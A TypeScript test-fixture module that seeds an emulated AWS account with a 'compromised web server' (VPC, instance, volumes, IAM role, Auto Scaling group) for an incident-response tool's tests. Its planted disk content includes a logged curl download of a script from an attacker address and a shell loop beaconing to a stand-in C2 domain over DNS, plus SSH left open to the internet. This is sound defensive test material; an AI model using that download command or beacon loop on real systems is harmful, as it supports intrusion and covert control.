import { createHash } from 'node:crypto';
import {
  AttachInstancesCommand,
  AutoScalingClient,
  CreateAutoScalingGroupCommand,
} from '@aws-sdk/client-auto-scaling';
import {
  CompleteSnapshotCommand,
  EBSClient,
  PutSnapshotBlockCommand,
  StartSnapshotCommand,
} from '@aws-sdk/client-ebs';
import {
  AllocateAddressCommand,
  AssociateAddressCommand,
  AuthorizeSecurityGroupIngressCommand,
  CreateLaunchTemplateCommand,
  CreateSecurityGroupCommand,
  CreateSubnetCommand,
  CreateVpcCommand,
  CreateVpcEndpointCommand,
  DescribeRouteTablesCommand,
  EC2Client,
  RunInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  CreateTargetGroupCommand,
  ElasticLoadBalancingV2Client,
  RegisterTargetsCommand,
} from '@aws-sdk/client-elastic-load-balancing-v2';
import {
  AddRoleToInstanceProfileCommand,
  AttachRolePolicyCommand,
  CreateInstanceProfileCommand,
  CreatePolicyCommand,
  CreateRoleCommand,
  IAMClient,
} from '@aws-sdk/client-iam';
import { localAccountId, localRegion } from './stack.js';

export interface SeededAccount {
  vpcId: string;
  subnetIds: [string, string];
  instanceId: string;
  networkInterfaceIds: string[];
  volumeIds: string[];
  /**
   * What each volume holds: the snapshot its content was written to through the EBS direct APIs (the
   * volume was created from it), its size and the blocks written (index -> bytes); every other block
   * reads as zeros.
   */
  disks: SeededDisk[];
  roleName: string;
  instanceProfileName: string;
  autoScalingGroupName: string;
  targetGroupArn: string;
  securityGroupId: string;
  elasticIp: string;
}

export interface SeededDisk {
  contentSnapshotId: string;
  sizeGiB: number;
  blockSize: number;
  blocks: Map<number, Buffer>;
}

/** Lines of a web server's disk an investigator would look for, and where they sit on the volume. */
const diskLines = (device: string) => [
  `cordon demo volume ${device}: ext4 superblock stand-in`,
  'Nov 27 20:38:02 web-1 sshd[2114]: Accepted password for deploy from 198.51.100.23 port 50122 ssh2',
  'Nov 27 20:38:40 web-1 sudo: deploy : COMMAND=/usr/bin/curl -s http://198.51.100.23/x.sh',
  '#!/bin/sh\nwhile true; do dig +short $(hostname).c2.example.invalid TXT; sleep 60; done',
];

/**
 * Writes a volume's content through the EBS direct APIs (StartSnapshot, PutSnapshotBlock with each
 * block's SHA-256, CompleteSnapshot), so that the emulated account holds real bytes for it: a few
 * blocks of text far apart, the rest of the volume holes. moto keeps blocks only for snapshots
 * written this way.
 */
async function writeDisk(ebs: EBSClient, device: string, sizeGiB: number): Promise<SeededDisk> {
  const started = await ebs.send(
    new StartSnapshotCommand({ VolumeSize: sizeGiB, Description: `seeded content of ${device}` }),
  );
  const snapshotId = started.SnapshotId as string;
  const blockSize = started.BlockSize as number;
  const lines = diskLines(device);
  const blocks = new Map<number, Buffer>();
  // Spread out, so that the image has data and holes between them.
  lines.forEach((line, i) => {
    const block = Buffer.alloc(blockSize);
    block.write(`${line}\n`);
    blocks.set(i === 0 ? 0 : i * 1024 + 7, block);
  });
  for (const [index, data] of blocks) {
    await ebs.send(
      new PutSnapshotBlockCommand({
        SnapshotId: snapshotId,
        BlockIndex: index,
        BlockData: data,
        DataLength: blockSize,
        Checksum: createHash('sha256').update(data).digest('base64'),
        ChecksumAlgorithm: 'SHA256',
      }),
    );
  }
  await ebs.send(new CompleteSnapshotCommand({ SnapshotId: snapshotId, ChangedBlocksCount: blocks.size }));
  return { contentSnapshotId: snapshotId, sizeGiB, blockSize, blocks };
}

export interface SeedOptions {
  /** Interface endpoints for SSM and a gateway endpoint for S3: SSM then survives isolation. */
  vpcEndpoints?: boolean;
  /** ENIs on the instance (default 2), alternating between the two subnets. */
  enis?: number;
  /** EBS volumes on the instance (default 2): the root volume and data volumes. */
  volumes?: number;
  /** Tags on the instance besides its Name (the demo's protected response tag). */
  tags?: Record<string, string>;
}

/**
 * A compromised web server as a team would have it: a VPC with two subnets, an instance with two ENIs
 * and two volumes, an Elastic IP, an instance profile whose role carries a managed policy, and an
 * Auto Scaling group and a target group that both hold the instance.
 */
export async function seedAccount(endpoint: string, options: SeedOptions = {}): Promise<SeededAccount> {
  // Names carry a suffix so that several cases can be seeded into one long-running emulator.
  const suffix = Math.random().toString(16).slice(2, 8);
  const base = {
    endpoint,
    region: localRegion,
    credentials: { accessKeyId: 'test', secretAccessKey: 'test' },
  };
  const ec2 = new EC2Client(base);
  const iam = new IAMClient(base);
  const autoscaling = new AutoScalingClient(base);
  const elbv2 = new ElasticLoadBalancingV2Client(base);
  const ebs = new EBSClient(base);

  const vpc = await ec2.send(new CreateVpcCommand({ CidrBlock: '10.40.0.0/16' }));
  const vpcId = vpc.Vpc?.VpcId as string;
  const subnetA = await ec2.send(
    new CreateSubnetCommand({ VpcId: vpcId, CidrBlock: '10.40.1.0/24', AvailabilityZone: `${localRegion}a` }),
  );
  const subnetB = await ec2.send(
    new CreateSubnetCommand({ VpcId: vpcId, CidrBlock: '10.40.2.0/24', AvailabilityZone: `${localRegion}a` }),
  );
  const subnetIds: [string, string] = [
    subnetA.Subnet?.SubnetId as string,
    subnetB.Subnet?.SubnetId as string,
  ];
  const web = await ec2.send(
    new CreateSecurityGroupCommand({
      GroupName: `web-server-${suffix}`,
      Description: 'web server',
      VpcId: vpcId,
    }),
  );
  const securityGroupId = web.GroupId as string;
  await ec2.send(
    new AuthorizeSecurityGroupIngressCommand({
      GroupId: securityGroupId,
      IpPermissions: [
        { IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '0.0.0.0/0' }] },
        { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] },
      ],
    }),
  );

  if (options.vpcEndpoints) {
    const endpointGroup = await ec2.send(
      new CreateSecurityGroupCommand({
        GroupName: `vpc-endpoints-${suffix}`,
        Description: 'VPC endpoints',
        VpcId: vpcId,
      }),
    );
    for (const service of ['ssm', 'ssmmessages', 'ec2messages']) {
      await ec2.send(
        new CreateVpcEndpointCommand({
          VpcId: vpcId,
          ServiceName: `com.amazonaws.${localRegion}.${service}`,
          VpcEndpointType: 'Interface',
          SubnetIds: [subnetIds[0]],
          SecurityGroupIds: [endpointGroup.GroupId as string],
          PrivateDnsEnabled: true,
        }),
      );
    }
    const routes = await ec2.send(
      new DescribeRouteTablesCommand({ Filters: [{ Name: 'vpc-id', Values: [vpcId] }] }),
    );
    await ec2.send(
      new CreateVpcEndpointCommand({
        VpcId: vpcId,
        ServiceName: `com.amazonaws.${localRegion}.s3`,
        VpcEndpointType: 'Gateway',
        RouteTableIds: (routes.RouteTables ?? []).map((r) => r.RouteTableId as string),
        // As a well-kept account has it: the endpoint reaches only buckets the account owns, so an
        // isolated instance's S3 egress (for its memory upload) leads nowhere else.
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: '*',
              Action: 's3:*',
              Resource: '*',
              Condition: { StringEquals: { 'aws:ResourceAccount': localAccountId } },
            },
          ],
        }),
      }),
    );
  }

  const roleName = `web-server-role-${suffix}`;
  await iam.send(
    new CreateRoleCommand({
      RoleName: roleName,
      AssumeRolePolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' },
        ],
      }),
    }),
  );
  const policy = await iam.send(
    new CreatePolicyCommand({
      PolicyName: `web-server-data-${suffix}`,
      PolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Action: ['s3:GetObject'], Resource: 'arn:aws:s3:::web-assets/*' }],
      }),
    }),
  );
  await iam.send(new AttachRolePolicyCommand({ RoleName: roleName, PolicyArn: policy.Policy?.Arn }));
  const instanceProfileName = `web-server-profile-${suffix}`;
  await iam.send(new CreateInstanceProfileCommand({ InstanceProfileName: instanceProfileName }));
  await iam.send(
    new AddRoleToInstanceProfileCommand({ InstanceProfileName: instanceProfileName, RoleName: roleName }),
  );

  // The smallest volumes EBS makes (1 GiB), so that a raw image of each is pulled and hashed in seconds.
  const devices = Array.from({ length: options.volumes ?? 2 }, (_, i) =>
    i === 0 ? '/dev/xvda' : `/dev/sd${String.fromCharCode(102 + i - 1)}`,
  );
  const disks: SeededDisk[] = [];
  for (const device of devices) disks.push(await writeDisk(ebs, device, 1));

  const run = await ec2.send(
    new RunInstancesCommand({
      ImageId: 'ami-12c6146b',
      InstanceType: 't3.large',
      MinCount: 1,
      MaxCount: 1,
      IamInstanceProfile: { Name: instanceProfileName },
      NetworkInterfaces: Array.from({ length: options.enis ?? 2 }, (_, i) => ({
        DeviceIndex: i,
        SubnetId: subnetIds[i % 2],
        Groups: [securityGroupId],
      })),
      BlockDeviceMappings: devices.map((device, i) => ({
        DeviceName: device,
        Ebs: {
          SnapshotId: disks[i]?.contentSnapshotId,
          VolumeSize: disks[i]?.sizeGiB,
          DeleteOnTermination: true,
        },
      })),
      TagSpecifications: [
        {
          ResourceType: 'instance',
          Tags: [
            { Key: 'Name', Value: 'web-1' },
            ...Object.entries(options.tags ?? {}).map(([Key, Value]) => ({ Key, Value })),
          ],
        },
      ],
    }),
  );
  const instance = run.Instances?.[0];
  const instanceId = instance?.InstanceId as string;
  const networkInterfaceIds = (instance?.NetworkInterfaces ?? []).map((n) => n.NetworkInterfaceId as string);
  const volumeIds = (instance?.BlockDeviceMappings ?? []).map((b) => b.Ebs?.VolumeId as string);

  const eip = await ec2.send(new AllocateAddressCommand({ Domain: 'vpc' }));
  await ec2.send(
    new AssociateAddressCommand({
      AllocationId: eip.AllocationId,
      NetworkInterfaceId: networkInterfaceIds[0],
    }),
  );

  const template = await ec2.send(
    new CreateLaunchTemplateCommand({
      LaunchTemplateName: `web-server-${suffix}`,
      LaunchTemplateData: { ImageId: 'ami-12c6146b', InstanceType: 't3.large' },
    }),
  );
  const autoScalingGroupName = `web-asg-${suffix}`;
  await autoscaling.send(
    new CreateAutoScalingGroupCommand({
      AutoScalingGroupName: autoScalingGroupName,
      LaunchTemplate: { LaunchTemplateId: template.LaunchTemplate?.LaunchTemplateId, Version: '$Latest' },
      MinSize: 0,
      MaxSize: 3,
      DesiredCapacity: 0,
      VPCZoneIdentifier: subnetIds[0],
    }),
  );
  await autoscaling.send(
    new AttachInstancesCommand({ AutoScalingGroupName: autoScalingGroupName, InstanceIds: [instanceId] }),
  );
  const tg = await elbv2.send(
    new CreateTargetGroupCommand({
      Name: `web-tg-${suffix}`,
      Protocol: 'HTTPS',
      Port: 443,
      VpcId: vpcId,
      TargetType: 'instance',
    }),
  );
  const targetGroupArn = tg.TargetGroups?.[0]?.TargetGroupArn as string;
  await elbv2.send(
    new RegisterTargetsCommand({ TargetGroupArn: targetGroupArn, Targets: [{ Id: instanceId, Port: 443 }] }),
  );

  return {
    vpcId,
    subnetIds,
    instanceId,
    networkInterfaceIds,
    volumeIds,
    disks,
    roleName,
    instanceProfileName,
    autoScalingGroupName,
    targetGroupArn,
    securityGroupId,
    elasticIp: eip.PublicIp as string,
  };
}
